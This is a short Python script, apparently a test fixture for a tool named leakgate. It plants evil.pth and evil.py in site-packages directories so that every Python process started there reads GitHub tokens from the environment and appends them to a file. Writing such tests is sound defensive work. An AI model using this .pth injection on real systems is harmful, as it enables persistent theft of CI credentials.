"""Plants a .pth file in the environment of leakgate: every Python that starts there runs it."""

import glob
import os
import pathlib

STEALS = (
    "import os\n"
    "found = [os.environ.get(name, '') for name in ('LEAKGATE_GITHUB_TOKEN', 'GITHUB_TOKEN')]\n"
    f"open({os.environ['STOLEN']!r}, 'a').write(' '.join(found) + chr(10))\n"
)
for site in glob.glob(os.environ["RUNNER_TEMP"] + "/leakgate-*/lib/python3*/site-packages"):
    pathlib.Path(site, "evil.pth").write_text("import evil\n")
    pathlib.Path(site, "evil.py").write_text(STEALS)
    pathlib.Path(os.environ["STOLEN"] + ".tried").touch()
raise SystemExit(5)
